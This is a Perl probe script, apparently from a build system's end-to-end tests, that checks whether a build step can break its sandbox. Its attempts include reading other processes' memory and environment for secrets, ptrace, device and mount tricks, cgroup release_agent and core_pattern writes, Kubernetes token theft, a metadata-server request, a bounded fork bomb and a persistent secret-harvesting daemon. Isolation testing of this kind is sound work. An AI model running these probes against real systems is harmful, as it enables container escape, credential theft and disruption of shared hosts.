# What a hostile RUN step does, attempt by attempt: perl probe.pl ATTEMPT [ARGUMENT…] prints on one line what it got.
# Values to look for come reversed, so that nobody finds the search instead of what it searches for.
use strict;
use warnings;
no warnings 'portable';
use Errno qw(EPERM);
use IO::Socket::INET;
use POSIX ();
use Socket;

# Numbers of system calls, which perl has no names for.
my %call = (
    ptrace => 101, init_module => 175, mount => 165, mknod => 133, unshare => 272, setns => 308, reboot => 169,
    add_key => 248, request_key => 249, keyctl => 250, open_by_handle_at => 304, process_vm_readv => 310, bpf => 321,
    perf_event_open => 298, sethostname => 170, settimeofday => 164, swapon => 167, chroot => 161, iopl => 172,
);
my %wanted;
for (split /\s+/, $ENV{LOOK_FOR} // '') {
    my ($name, $value) = split /=/, $_, 2;
    $wanted{$name} = scalar reverse $value;
}

# the processes that it sees but for itself and the shells that started it
sub others {
    my ($id, %own) = ($$);
    while ($id && ($id == $$ || name($id) =~ /^(sh|dash|timeout)$/)) {
        $own{$id} = 1;
        $id = (slurp("/proc/$id/stat", 4096) // '') =~ /.*\) \S (\d+)/ ? $1 : 0;
    }
    return grep { !$own{$_} } map { m{(\d+)$} } glob '/proc/[0-9]*';
}

# names of the values that a text holds
sub found { my $text = shift; grep { index($text, $wanted{$_}) >= 0 } sort keys %wanted }

sub slurp {
    my ($path, $most) = @_;
    sysopen(my $file, $path, POSIX::O_RDONLY() | POSIX::O_NONBLOCK()) or return;
    my ($text, $got) = ('', 0);
    while (length($text) < $most && ($got = sysread $file, my $part, 1 << 16)) { $text .= $part }
    return $text;
}

sub tell_found {
    my ($seen, $what, %found) = @_;
    print %found ? 'found: ' . join(', ', map { "$_ in $found{$_}" } sort keys %found) : "nothing in $seen $what";
}

sub walk {
    my ($directory, $visit, $depth) = @_;
    return if $depth > 30;
    opendir(my $handle, $directory) or return;
    for my $name (readdir $handle) {
        next if $name eq '.' || $name eq '..';
        my $path = $directory eq '/' ? "/$name" : "$directory/$name";
        next if -l $path || $path =~ m{^/(proc|sys)$};
        if (-d _) { walk($path, $visit, $depth + 1) } elsif (-f _ && -s _) { $visit->($path) }
    }
}

# tried NAME => sub that is true where it worked…
sub tried {
    my @worked;
    while (my ($name, $try) = splice @_, 0, 2) { push @worked, $name if $try->() }
    print @worked ? 'worked: ' . join(', ', @worked) : 'refused';
}

sub called { my ($name, @arguments) = @_; syscall($call{$name}, @arguments) != -1 }

sub connected {
    my ($host, $port) = @_;
    IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 3);
}

# whether it works, in a process of its own
sub in_child {
    my $try = shift;
    my $child = fork // return;
    POSIX::_exit($try->() ? 0 : 1) if !$child;
    waitpid $child, 0;
    return $? == 0;
}

sub can_write { sysopen my $file, $_[0], POSIX::O_WRONLY() }

my %attempt = (
    files => sub {
        my ($seen, %found) = (0);
        walk('/', sub {
            my $path = shift;
            $seen++;
            $found{$_} //= $path for found(slurp($path, 1 << 20) // '');
        }, 0);
        tell_found($seen > 1000 ? 'all' : $seen, 'files', %found);
    },
    environment => sub { look_in_proc('environ') },
    cmdline => sub { look_in_proc('cmdline') },
    memory => sub {
        my ($seen, %found) = (0);
        for my $pid (others()) {
            my $maps = slurp("/proc/$pid/maps", 1 << 20) or next;
            open(my $memory, '<:raw', "/proc/$pid/mem") or next;
            $seen++;
            while ($maps =~ /^([0-9a-f]+)-([0-9a-f]+) r\S* .*$/mg) {
                my ($start, $end) = (hex $1, hex $2);
                next if $end - $start > 1 << 28;
                sysseek $memory, $start, 0 or next;
                sysread $memory, my $text, $end - $start or next;
                $found{$_} //= 'the memory of ' . name($pid) for found($text);
            }
        }
        tell_found($seen, 'processes', %found);
    },
    roots => sub {
        my @seen = grep { my $pid = $_; grep { -e "/proc/$pid/root$_" } '/run/buildkit', '/run/kiln', '/etc/kiln' } others();
        print @seen ? 'sees: the files of ' . join ', ', map { name($_) } @seen : 'refused';
    },
    sockets => sub {
        my (%reached, $path);
        for (split /\n/, slurp('/proc/net/unix', 1 << 20) // '') {
            $path = (split ' ', $_, 8)[7] or next;
            my @tries = $path =~ s/^\@/\0/ ? ($path) : map { "/proc/$_/root$path" } others();
            for my $try (@tries) {
                next if length $try > 107;
                socket(my $socket, AF_UNIX, SOCK_STREAM, 0);
                $reached{$path =~ s/\0/@/r} = 1 if connect $socket, pack_sockaddr_un($try);
            }
        }
        print %reached ? 'reached: ' . join ', ', sort keys %reached : 'refused';
    },
    agent => sub {
        my ($address, @certificate) = @_;
        my @options = @certificate ? ('-cert', $certificate[0], '-key', $certificate[1]) : ();
        # The preface of HTTP/2: an agent that takes the certificate answers it with its settings.
        open my $tls, '-|', "(printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0'; sleep 1) | "
            . "timeout 5 openssl s_client -connect $address -alpn h2 @options -ign_eof 2>&1";
        my $text = do { local $/; <$tls> // '' };
        my ($alert) = $text =~ /alert ([a-z ]+)(?:\b|:)/;
        print $alert ? "refused: $alert"
            : $text =~ /connect:errno|Connection refused|timed out/ ? 'no connection'
            : $text =~ /(?:unable to load|Could not|No such file)/ ? "broken: $text" =~ s/\s+/ /gr
            : $text =~ /CONNECTED/ && $text !~ /read:errno/ ? 'taken' : 'no connection';
    },
    connect => sub { my ($host, $port) = @_; print connected($host, $port) ? 'connected' : 'no connection' },
    http => sub {
        my ($host, $port, $path) = @_;
        my $socket = connected($host, $port) or return print 'no connection';
        print $socket "GET $path HTTP/1.0\r\nHost: $host\r\nMetadata-Flavor: Google\r\n\r\n";
        my $answer = <$socket> // '';
        print 'answer: ' . $answer =~ s/\s+$//r;
    },
    token => sub {
        my @found = grep { -e } '/var/run/secrets/kubernetes.io/serviceaccount/token', '/run/secrets/kubernetes.io',
            map { "/proc/$_/root/var/run/secrets/kubernetes.io/serviceaccount/token" } others();
        print @found ? "found: @found" : 'no token';
    },
    volumes => sub {
        my $mounts = slurp('/proc/self/mountinfo', 1 << 20);
        my @found = grep { -e } map { my $root = $_; map { "$root$_" } '/var/lib/kubelet', '/var/lib/kiln-cluster', '/var/lib/kiln' }
            '', map { "/proc/$_/root" } others();
        # The cache that the step itself is made from is there as its own root alone.
        push @found, grep { -d && $_ ne '/' } $mounts =~ m{^\S+ \S+ \S+ \S*/(?:buildkit|agent)\S* (/\S*) .* - (?!overlay)}mg;
        my %reduced = map { s{^/proc/\d+/root}{another process's }r => 1 } grep { !m{^/(etc|dev|proc|sys)/} } @found;
        print %reduced ? 'found: ' . join ', ', sort keys %reduced : 'not there';
    },
    host_files => sub {
        my @readable = grep { my $text = slurp($_, 4096); defined $text && length $text }
            '/proc/kcore', '/proc/kmsg', '/proc/1/root/etc/kubernetes/admin.conf', '/sys/kernel/debug/tracing/trace', '/dev/kmsg';
        my @writable = grep { can_write($_) }
            '/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sys/vm/drop_caches',
            '/proc/sys/net/ipv4/ip_forward', '/sys/kernel/uevent_helper', '/proc/sys/fs/binfmt_misc/register',
            glob '/sys/class/net/*/mtu';
        my $handle = pack 'I i a8', 8, 1, pack 'II', 2, 0;
        push @readable, 'a file by its handle' if called('open_by_handle_at', fileno(STDIN), $handle, 0);
        print @readable || @writable ? "got: @readable, could write: @writable" : 'refused';
    },
    devices => sub {
        tried(
            'mknod of the disk' => sub { called('mknod', '/disk', 0060600, 254 << 8) && slurp('/disk', 512) },
            'mknod of memory' => sub { called('mknod', '/memory', 0020600, 1 << 8 | 1) && slurp('/memory', 512) },
            map { my $device = $_; $device => sub { slurp($device, 512) } } qw(/dev/mem /dev/kmsg /dev/sda /dev/vda /dev/fuse /dev/net/tun),
        );
    },
    mounts => sub {
        mkdir '/mnt';
        tried(
            tmpfs => sub { called('mount', 'none', '/mnt', 'tmpfs', 0, 0) },
            proc => sub { called('mount', 'none', '/mnt', 'proc', 0, 0) },
            cgroup => sub { called('mount', 'none', '/mnt', 'cgroup', 0, my $options = 'memory') },
            cgroup2 => sub { called('mount', 'none', '/mnt', 'cgroup2', 0, 0) },
            bind => sub { called('mount', '/proc/1/root', '/mnt', 'none', 4096, 0) },
            disk => sub { called('mount', '/dev/vda', '/mnt', 'ext4', 0, 0) },
        );
    },
    kernel => sub {
        my $image = "\x7fELF" . "\0" x 60;
        tried(
            'a module' => sub { called('init_module', $image, length $image, '') },
            reboot => sub { called('reboot', 0xfee1dead, 672274793, 0, 0) },
            bpf => sub { called('bpf', 0, my $attributes = pack('I4', 1, 4, 4, 1) . "\0" x 48, 64) },
            'performance events' => sub { called('perf_event_open', my $event = pack('I2', 1, 112) . "\0" x 104, -1, 0, -1, 0) },
            'the host name' => sub { called('sethostname', 'hostile', 7) },
            'the clock' => sub { called('settimeofday', pack('q2', 1, 0), 0) },
            swap => sub { called('swapon', '/probe.pl', 0) },
            ports => sub { called('iopl', 3) },
        );
    },
    processes => sub {
        my %names = map { $_ => 1 } grep { $_ } map { name($_) } others();
        my @strange = grep { !/^(sh|dash|perl|runc|buildkit-runc)$/ } sort keys %names;
        print @strange ? 'sees: ' . join ', ', @strange : 'its own alone';
    },
    ptrace => sub {
        my (%worked, $memory);
        for my $pid (others()) {
            # PTRACE_SEIZE does not stop the process.
            $worked{name($pid)} = 1 if called('ptrace', 0x4206, $pid, 0, 0);
            my $buffer = "\0" x 8;
            my $local = pack 'QQ', unpack('Q', pack 'p', $buffer), 8;
            $worked{name($pid)} = 1 if called('process_vm_readv', $pid, $local, 1, pack('QQ', 0x400000, 8), 1, 0);
        }
        print %worked ? 'worked: ' . join ', ', sort keys %worked : 'refused';
    },
    signals => sub {
        my @could = grep { kill 0, $_ } others();
        my %names = map { name($_) => 1 } @could;
        print %names ? 'could signal: ' . join ', ', sort keys %names : 'refused';
    },
    namespaces => sub {
        tried(
            'a user namespace' => sub { in_child(sub { called('unshare', 0x10000000) }) },
            'a mount namespace' => sub { in_child(sub { called('unshare', 0x20000) }) },
            map {
                my $pid = $_;
                'the namespaces of ' . name($pid) => sub {
                    in_child(sub { sysopen(my $file, "/proc/$pid/ns/mnt", 0) or return; called('setns', fileno($file), 0) });
                };
            } others(),
        );
    },
    cgroups => sub {
        my @writable;
        open(my $mounts, '<', '/proc/mounts');
        while (<$mounts>) {
            my (undef, $place, $kind) = split ' ';
            next unless $kind =~ /^cgroup/;
            push @writable, grep { can_write($_) } "$place/cgroup.procs", "$place/release_agent", "$place/../cgroup.procs", glob "$place/*/cgroup.procs";
            push @writable, "$place/new" if mkdir "$place/new";
        }
        print @writable ? "could write: @writable" : 'refused';
    },
    keys => sub {
        my ($type, $name, $value) = ('user', 'kiln-e2e', 'x');
        tried(
            'a key in the user\'s ring' => sub { called('add_key', $type, $name, $value, 1, -4) },
            'a key of others' => sub { called('request_key', $type, $name, 0, -4) },
            'a session of its own' => sub { called('keyctl', 1, 0, 0, 0, 0) },
        );
    },
    bomb => sub {
        # Far above what a pod may have; a bomb without this end could take the machine along.
        my ($most, @children) = (6000);
        while (@children < $most) {
            my $child = fork // last;
            if (!$child) { sleep 20; POSIX::_exit(0) }
            push @children, $child;
        }
        my $count = @children;
        # As long as others may suffer from it.
        sleep 4;
        kill 'KILL', @children;
        waitpid $_, 0 for @children;
        print $count < $most ? 'bounded' : "$count processes";
    },
    stay => sub {
        # A daemon as nohup and setsid make it; it tells on a port of the pod what it has found since.
        my ($port) = @_;
        my $child = fork;
        return print 'left behind' if $child;
        POSIX::setsid();
        exit 0 if fork;
        open STDIN, '<', '/dev/null';
        open STDOUT, '>', '/dev/null';
        open STDERR, '>', '/dev/null';
        $SIG{$_} = 'IGNORE' for qw(TERM HUP INT);
        my $server = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => $port, Listen => 5, ReuseAddr => 1) or exit 1;
        my ($until, %found) = (time + 120);
        while (time < $until) {
            vec(my $ready = '', fileno $server, 1) = 1;
            if (select $ready, undef, undef, 0.1) {
                my $client = $server->accept or next;
                print $client 'alive; found: ' . (join(', ', sort keys %found) || 'nothing') . "\n";
                close $client;
            }
            for my $pid (others()) {
                for my $file (qw(environ cmdline)) {
                    $found{$_} = 1 for found(slurp("/proc/$pid/$file", 1 << 20) // '');
                }
                $found{$_} = 1 for map { found(slurp($_, 1 << 16) // '') } glob "/proc/$pid/root/run/secrets/*";
            }
        }
    },
    ask_stayed => sub {
        my $socket = connected('127.0.0.1', shift) or return print 'gone';
        my $answer = <$socket> // 'alive';
        print $answer =~ s/\s+$//r;
    },
);

sub name { my $name = slurp("/proc/$_[0]/comm", 64) // 'one that ended'; $name =~ s/\s+$//; $name }

sub look_in_proc {
    my ($file, $seen, %found) = (shift, 0);
    for my $pid (others()) {
        my $text = slurp("/proc/$pid/$file", 1 << 20);
        next unless defined $text && length $text;
        $seen++;
        $found{$_} //= name($pid) for found($text);
    }
    tell_found($seen, 'processes', %found);
}

$| = 1;
my $name = shift;
($attempt{$name} // die "no attempt $name")->(@ARGV);
print "\n";
